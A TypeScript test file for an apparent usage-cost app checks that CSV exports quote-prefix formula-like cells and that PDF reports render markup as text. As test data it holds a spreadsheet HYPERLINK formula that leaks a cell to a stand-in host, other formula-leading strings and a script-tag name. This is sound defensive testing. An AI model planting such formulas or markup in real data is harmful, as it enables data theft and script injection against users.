import { teams, users, type Db } from '@costwise/db'
import { createTestDb, type TestDb } from '@costwise/db/test-db'
import { parse } from 'csv-parse/sync'
import { PDFParse } from 'pdf-parse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApiKey } from './auth/api-keys'
import { handleExportRequest } from './http'
import { recordUsage } from './services/record-usage'
import { buildReport, reportCsv, reportPdf } from './services/reports'
import { savePrompt } from './services/lab'
import type { TeamScope } from './trpc'

// Names and model strings come from users and tools. In a CSV they must not become formulas; in a PDF they are
// text; in HTML email they are escaped (core escapeHtml, used by the alert email).

const today = () => {
  const day = new Date().toISOString().slice(0, 10)
  return { kind: 'fixed' as const, from: day, to: day }
}

const HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"Open")', '+1+1', '-1+1', '@SUM(A1:A2)', '\tTAB', '\rCR']

describe('output safety: exports and reports', () => {
  let t: TestDb
  let db: Db
  let scope: TeamScope
  let key: string

  beforeAll(async () => {
    t = await createTestDb()
    db = t.db
    const team = await teams.insertTeam(db, {
      slug: 'hostile',
      name: '<script>alert("team")</script>',
      plan: 'enterprise',
    })
    const user = await users.insertUser(db, { email: 'h@hostile.test', name: 'H', passwordHash: 'x' })
    await teams.upsertMember(db, team.id, user.id, 'owner')
    scope = { ...team, role: 'owner', userId: user.id, apiKeyId: null }
    key = (await createApiKey(db, { teamId: team.id, name: 'reader', scopes: ['usage:read'] })).key
    const prompt = await savePrompt(db, scope, {
      name: '=HYPERLINK("http://evil.test","<script>x</script>")',
      userMessage: 'hi',
      model: 'gpt-4o-mini',
    })
    await recordUsage(db, scope, [
      ...HOSTILE.map((model, i) => ({ model, inputTokens: 10 + i, outputTokens: 1, promptId: prompt.id })),
      { model: 'gpt-4o-mini', inputTokens: 1000, outputTokens: 100, promptId: prompt.id },
    ])
  })
  afterAll(async () => t?.destroy())

  it('the usage CSV export prefixes hostile text cells with a quote and leaves numbers and plain text alone', async () => {
    const res = await handleExportRequest(
      db,
      new Request('http://localhost/api/usage/export?format=csv', { headers: { authorization: `Bearer ${key}` } }),
    )
    expect(res.status).toBe(200)
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[]
    const models = rows.map((r) => r.model).sort()
    expect(models).toEqual([...HOSTILE.map((m) => `'${m}`), 'gpt-4o-mini'].sort())
    for (const r of rows) {
      expect(r.input_tokens).toMatch(/^\d+$/)
      expect(r.cost_usd).toMatch(/^\d+\.\d+$/)
      expect(r.provider).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  it('report CSVs neutralise the group column (models, days, ids) and keep the numbers as numbers', async () => {
    const data = await buildReport(db, scope, { metrics: ['cost', 'runs'], groupBy: 'model', range: today() })
    const cells = parse(reportCsv(data).toString('utf8')) as string[][]
    const keys = cells.slice(1, -1).map((r) => r[0]!)
    for (const hostile of HOSTILE) expect(keys).toContain(`'${hostile}`)
    expect(keys).toContain('gpt-4o-mini')
    expect(cells.every((r) => !/^[=+\-@\t\r]/.test(r[0]!))).toBe(true)
    expect(cells.slice(1).every((r) => /^\d+(\.\d+)?$/.test(r[1]!) && /^\d+$/.test(r[2]!))).toBe(true)
  })

  it('the PDF shows team and prompt names as text, markup and formulas included', async () => {
    const data = await buildReport(db, scope, { metrics: ['cost'], groupBy: 'day', range: today() })
    const text = (await new PDFParse({ data: new Uint8Array(await reportPdf(data)) }).getText()).text
    expect(text).toContain('<script>alert("team")</script>')
    expect(text).toContain('=HYPERLINK(')
  })
})
